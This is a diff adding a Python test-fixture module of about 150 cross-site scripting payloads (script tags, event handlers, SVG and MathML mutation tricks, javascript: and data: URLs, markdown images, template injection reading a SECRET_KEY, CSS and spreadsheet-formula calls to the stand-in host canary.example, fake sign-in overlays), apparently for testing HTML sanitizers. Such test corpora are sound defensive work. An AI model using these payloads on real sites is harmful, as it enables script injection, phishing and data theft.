@@ -1,0 +1,153 @@
+"""Texts that try to become more than text: each calls `xss()`, makes an element `data-xss` or asks `canary.example`."""
+
+from __future__ import annotations
+
+CANARY = "canary.example"
+
+TAGS = [
+    "<script data-xss>xss()</script>",
+    "<script data-xss src=//canary.example/1.js></script>",
+    "<SCRIPT data-xss SRC=https://canary.example/2.js></SCRIPT>",
+    "<scr<script>ipt data-xss>xss()</scr</script>ipt>",
+    '"><script data-xss>xss()</script>',
+    "'><script data-xss>xss()</script>",
+    "</title><script data-xss>xss()</script>",
+    "</textarea><script data-xss>xss()</script>",
+    "</pre></code><script data-xss>xss()</script>",
+    "</script><script data-xss>xss()</script>",
+    "--><script data-xss>xss()</script>",
+    "]]><script data-xss>xss()</script>",
+    "<script data-xss type=module>import 'https://canary.example/3.js'</script>",
+    "<script data-xss/src=data:,xss()></script>",
+    '<noscript><p title="</noscript><img data-xss src=x onerror=xss()>"></noscript>',
+]
+HANDLERS = [
+    "<img data-xss src=x onerror=xss()>",
+    "<img data-xss src=//canary.example/4.png>",
+    "<img data-xss srcset='//canary.example/5.png 2x'>",
+    "<IMG data-xss SRC=x ONERROR=alert(1)>",
+    "<img/data-xss/src=x/onerror=xss()>",
+    "<img data-xss src=x onerror\n=\nxss()>",
+    "<img data-xss src=`x` onerror=xss()>",
+    '<img data-xss """><script>xss()</script>">',
+    "<body data-xss onload=xss()>",
+    "<input data-xss autofocus onfocus=xss()>",
+    "<select data-xss autofocus onfocus=xss()></select>",
+    "<textarea data-xss autofocus onfocus=xss()></textarea>",
+    "<details data-xss open ontoggle=xss()><summary>a</summary></details>",
+    "<video data-xss><source onerror=xss()></video>",
+    "<audio data-xss src=x onerror=xss()></audio>",
+    "<marquee data-xss onstart=xss()>a</marquee>",
+    "<div data-xss onpointerover=xss()>a</div>",
+    "<a data-xss onmouseover=xss() href=#>a</a>",
+    '" onmouseover="xss()" data-xss="',
+    "' autofocus onfocus='xss()' data-xss='",
+    '" style="animation-name:x" onanimationstart="xss()" data-xss="',
+    "x onerror=xss() data-xss",
+    '"/><img data-xss src=x onerror=xss()>',
+    "<x data-xss contenteditable onblur=xss() tabindex=1 autofocus>",
+]
+SVG = [
+    "<svg data-xss onload=xss()>",
+    "<svg data-xss><script>xss()</script></svg>",
+    "<svg data-xss><animate onbegin=xss() attributeName=x dur=1s></svg>",
+    "<svg data-xss><a xlink:href='javascript:xss()'><text y=20>a</text></a></svg>",
+    "<svg data-xss><use href='data:image/svg+xml,<svg id=x onload=xss()>#x'></svg>",
+    "<svg data-xss><image href=//canary.example/6.svg></svg>",
+    "<svg data-xss><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
+    "<svg data-xss><style>*{background:url(//canary.example/7)}</style></svg>",
+    "<math data-xss><mtext><img src=x onerror=xss()></mtext></math>",
+    "<math href='javascript:xss()' data-xss>a</math>",
+    "<math><mtext><table><mglyph><style><!--</style><img data-xss title='--&gt;&lt;img src=x onerror=xss()&gt;'>",
+    '<svg></p><style><a id="</style><img data-xss src=x onerror=xss()>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img data-xss src onerror=xss()>",
+]
+EMBEDS = [
+    "<iframe data-xss src=javascript:xss()></iframe>",
+    "<iframe data-xss srcdoc='<script>parent.xss()</script>'></iframe>",
+    "<iframe data-xss src=//canary.example/8></iframe>",
+    "<object data-xss data=//canary.example/9></object>",
+    "<embed data-xss src=//canary.example/10>",
+    "<link data-xss rel=stylesheet href=//canary.example/11.css>",
+    "<link data-xss rel=prefetch href=//canary.example/12>",
+    "<meta data-xss http-equiv=refresh content='0;url=//canary.example/13'>",
+    "<base data-xss href=//canary.example/>",
+    "<form data-xss action=//canary.example/14><button>Sign in</button></form>",
+    "<button data-xss formaction=javascript:xss()>a</button>",
+    "<template data-xss><script>xss()</script></template>",
+    "<portal data-xss src=//canary.example/15></portal>",
+    "<dialog data-xss open><form method=dialog>a</form></dialog>",
+    "<div data-xss hx-get='//canary.example/16' hx-trigger=load>a</div>",
+    "<div data-xss hx-on:htmx:load='xss()'>a</div>",
+    "<table data-xss background=//canary.example/17><tr><td>a</table>",
+]
+ADDRESSES = [
+    "javascript:xss()",
+    "JaVaScRiPt:xss()",
+    "java\tscript:xss()",
+    "javascript://%0axss()",
+    "data:text/html,<script data-xss>xss()</script>",
+    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    "https://canary.example/18",
+    "//canary.example/19",
+    "\\\\canary.example\\20",
+    "<a data-xss href=javascript:xss()>a</a>",
+    "<a data-xss href='&#106;avascript:xss()'>a</a>",
+]
+MARKDOWN = [
+    "![a](https://canary.example/21.png)",
+    "![a](//canary.example/22.png 'b')",
+    "![a][b]\n\n[b]: https://canary.example/23.png",
+    "[a](javascript:xss())",
+    "[a](<javascript:xss()>)",
+    "[a](data:text/html,<script>xss()</script>)",
+    '[a](https://canary.example/24 "onmouseover=xss()")',
+    "<https://canary.example/25>",
+    "[![a](https://canary.example/26.png)](javascript:xss())",
+    "```html\n<img data-xss src=x onerror=xss()>\n```",
+    "`<img data-xss src=x onerror=xss()>`",
+    "| a |\n|---|\n| <img data-xss src=x onerror=xss()> |",
+    "[a]: javascript:xss()\n\n[a]",
+    "# <script data-xss>xss()</script>",
+]
+TEMPLATES = [
+    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
+    "{% load static %}{% include 'base.html' %}",
+    "${xss()}#{xss()}<%= xss() %>",
+    "{{constructor.constructor('xss()')()}}",
+    "{% verbatim %}<img data-xss src=x onerror=xss()>{% endverbatim %}",
+]
+ENTITIES = [
+    "&lt;img data-xss src=x onerror=xss()&gt;",
+    "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;",
+    "&#60;img data-xss src=x onerror=xss()&#62;",
+    "\\u003cimg data-xss src=x onerror=xss()\\u003e",
+    "%3Cimg%20data-xss%20src=x%20onerror=xss()%3E",
+    "＜img data-xss src=x onerror=xss()＞",
+]
+STYLES = [
+    "<style data-xss>*{background:url(//canary.example/27)}</style>",
+    "<div data-xss style='background:url(//canary.example/28)'>a</div>",
+    "</style><style data-xss>@import '//canary.example/29.css';</style>",
+    "<div data-xss style='position:fixed;inset:0;z-index:99'>Sign in again</div>",
+]
+ODDITIES = [
+    '{"a": "</script><script data-xss>xss()</script>"}',
+    '{"__proto__": {"innerHTML": "<img data-xss src=x onerror=xss()>"}}',
+    "\u202egnp.exe<img data-xss src=x onerror=xss()>\u202c",
+    "\u2066<b data-xss>\u2069\u200b\u200f\U000e0041",
+    "\x1b]0;xss()\x07\x1b[2J<img data-xss src=x onerror=xss()>",
+    "a\x00<img data-xss src=x onerror=xss()>",
+    "=HYPERLINK(\"https://canary.example/30\",\"a\")<img data-xss src=x onerror=xss()>",
+    "<!--[if gte IE 4]><script data-xss>xss()</script><![endif]-->",
+    "<img data-xss src=x onerror=xss()>" * 60,
+    "<b data-xss>" * 400,
+    "\ufeff<script data-xss>xss()</script>",
+    "\r\nContent-Type: text/html\r\n\r\n<script data-xss>xss()</script>",
+]  # fmt: skip
+
+PAYLOADS = [
+    *(*TAGS, *HANDLERS, *SVG, *EMBEDS, *ADDRESSES),
+    *(*MARKDOWN, *TEMPLATES, *ENTITIES, *STYLES, *ODDITIES),
+]
